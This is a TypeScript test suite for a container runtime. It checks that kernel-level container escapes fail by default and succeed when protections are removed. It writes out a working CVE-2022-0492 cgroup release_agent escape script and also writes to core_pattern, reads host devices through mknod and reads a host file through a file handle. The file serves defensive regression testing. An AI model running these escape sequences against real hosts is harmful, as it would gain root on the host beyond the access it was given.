/**
 * What the kernel offers to root of the host: programs that it starts, files that change it, disks, handles of files. Each
 * attack fails in a container as everyone makes it, and succeeds in one whose settings take the fence away.
 */
import assert from 'node:assert/strict';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmdirSync,
  rmSync,
  statfsSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { run } from '../fixtures/process.ts';
import { eventually } from '../harness/command.ts';
import { startWorld, type World } from '../harness/world.ts';
import { hostileImage } from './hostile-image.ts';
import { attackProgram } from './program.ts';

const HIERARCHY = `isleattack${process.pid}`;
const EXT4 = 0xef53;

/**
 * A hierarchy whose last group was removed a moment before its last mount stays behind; it goes with the next unmount. It
 * is one of this test's own.
 */
async function removeHierarchy(directory: string): Promise<void> {
  const point = join(directory, 'hierarchy');
  mkdirSync(point);
  const isThere = () => readFileSync('/proc/self/cgroup', 'utf8').includes(`name=${HIERARCHY}:`);
  await eventually('the hierarchy is gone', async () => {
    if (!isThere()) return true;
    await run('mount', ['-t', 'cgroup', '-o', `none,name=${HIERARCHY}`, 'none', point]);
    await run('umount', [point]);
    return null;
  });
  rmdirSync(point);
}

describe('the kernel, asked by a container', () => {
  let world: World;
  let directory: string;
  before(async () => {
    world = await startWorld();
    directory = mkdtempSync(join(tmpdir(), 'isle-kernel-'));
    writeFileSync(join(directory, 'secret'), 'of the host', { mode: 0o600 });
  });
  after(async () => {
    await world[Symbol.asyncDispose]();
    await removeHierarchy(directory);
    rmSync(directory, { recursive: true });
  });

  const inside = (flags: readonly string[], script: string, image = world.busybox) =>
    world.daemon.docker(['run', '--rm', ...flags, image, 'sh', '-c', script]);

  /** CVE-2022-0492: the kernel starts a program of cgroup v1's choice, as root of the host, when a group becomes empty. */
  describe('to start a program as release_agent', () => {
    const attack = (made: string) =>
      [
        `mkdir /tmp/cg && mount -t cgroup -o none,name=${HIERARCHY} none /tmp/cg && mkdir /tmp/cg/x || exit 1`,
        'echo 1 > /tmp/cg/x/notify_on_release',
        // Where the host has the container's files is told by its own mount.
        'upper=$(sed -n "s/.*upperdir=\\([^,]*\\).*/\\1/p" /proc/mounts)',
        `printf '#!/bin/sh\\necho $$ > ${made}\\n' > /payload; chmod +x /payload`,
        'echo "$upper/payload" > /tmp/cg/release_agent && sh -c "echo 0 > /tmp/cg/x/cgroup.procs"',
        'for i in $(seq 200); do rmdir /tmp/cg/x && break; sleep 0.1; done',
      ].join('\n');
    const doesNot = async (...flags: string[]) => {
      const made = join(directory, 'made');
      await inside(flags, `${attack(made)}\nsleep 0.3; umount /tmp/cg`);
      assert.equal(existsSync(made), false);
    };
    it('does not', () => doesNot());
    it('does not with SYS_ADMIN either: it is in a cgroup namespace of its own', () =>
      doesNot('--cap-add', 'SYS_ADMIN'));
    it("does, with SYS_ADMIN and the host's cgroup namespace", async () => {
      const made = join(directory, 'made');
      const flags = ['--cap-add', 'SYS_ADMIN', '--cgroupns', 'host'];
      // The program lies in the container, so that has to be there until the kernel has come to start it.
      const command = ['sh', '-c', `${attack(made)}\nsleep 1000`];
      const id = await world.daemon.ok(['run', '-d', ...flags, world.busybox, ...command]);
      await eventually('the kernel starts it', () => existsSync(made) || null);
      await world.daemon.ok(['rm', '-f', id]);
    });
  });

  describe('to change it through its files', () => {
    // What is there already is written again: harmless where it succeeds.
    const write = (path: string) => `cat ${path} > /tmp/value && cat /tmp/value > ${path}`;
    const FILES = ['/proc/sys/kernel/core_pattern', '/proc/sys/vm/panic_on_oom', '/proc/irq/default_smp_affinity'];
    for (const path of FILES) {
      it(`does not by ${path}, and does with systempaths=unconfined`, async () => {
        assert.match((await inside([], write(path))).stderr, /Read-only file system/);
        assert.equal((await inside(['--security-opt', 'systempaths=unconfined'], write(path))).code, 0);
      });
    }
    it('does not by a file of sysfs, and does for a privileged one', async () => {
      const path = '/sys/kernel/mm/ksm/run';
      const own = statSync(path, { throwIfNoEntry: false }) ? path : '/sys/kernel/rcu_expedited';
      assert.match((await inside([], write(own))).stderr, /Read-only file system/);
      assert.equal((await inside(['--privileged'], write(own))).code, 0);
    });
    /** CVE-2023-25809 */
    it('does not by the files of its cgroup, and does for a privileged one', async () => {
      const make =
        'for d in /sys/fs/cgroup/pids /sys/fs/cgroup; do mkdir $d/made && rmdir $d/made && exit 0; done; exit 1';
      const { code, stderr } = await inside([], make);
      assert.equal(code, 1);
      assert.match(stderr, /Read-only file system/);
      assert.equal((await inside(['--privileged'], make)).code, 0);
    });
  });

  it('to tell of the host by its files does not, and does with systempaths=unconfined', async () => {
    const look = 'cat /proc/keys /proc/timer_list | wc -c; ls -A /sys/firmware | wc -l';
    assert.deepEqual((await inside([], look)).stdout.split('\n').map(Number), [0, 0, 0]);
    const [bytes = 0, entries = 0] = (await inside(['--security-opt', 'systempaths=unconfined'], look)).stdout
      .split('\n')
      .map(Number);
    assert.ok(bytes > 0 && entries > 0, `${bytes} bytes, ${entries} entries`);
  });

  /** Of a disk the same is tried in test/vm/cgroup2-live.test.ts: there are machines whose root may not read theirs. */
  it('for a device of the host does not give it to a node that was made, and does with a rule for it', async () => {
    const read = 'mknod /tmp/kmsg c 1 11 && dd if=/tmp/kmsg bs=8192 count=1 | wc -c';
    const kept = await inside([], read);
    assert.equal(kept.stdout, '0\n');
    assert.match(kept.stderr, /kmsg'?: Operation not permitted/);
    const given = await inside(['--device-cgroup-rule', 'c 1:11 r', '--cap-add', 'SYSLOG'], read);
    assert.ok(Number(given.stdout) > 0, given.stderr);
  });

  it('for a file by its handle does not open it, and does with DAC_READ_SEARCH', async () => {
    const program = { name: 'bin/by-handle', mode: 0o755, content: await attackProgram('by-handle') };
    const image = await hostileImage(world, { entries: [program] });
    const attack = (...flags: string[]) => inside(flags, `by-handle /etc/hosts ${directory}/secret`, image);
    assert.equal((await attack()).stdout, 'EPERM\n');
    if (statfsSync(directory).type !== EXT4) return;
    assert.equal((await attack('--cap-add', 'DAC_READ_SEARCH')).stdout, 'of the host');
  });
});
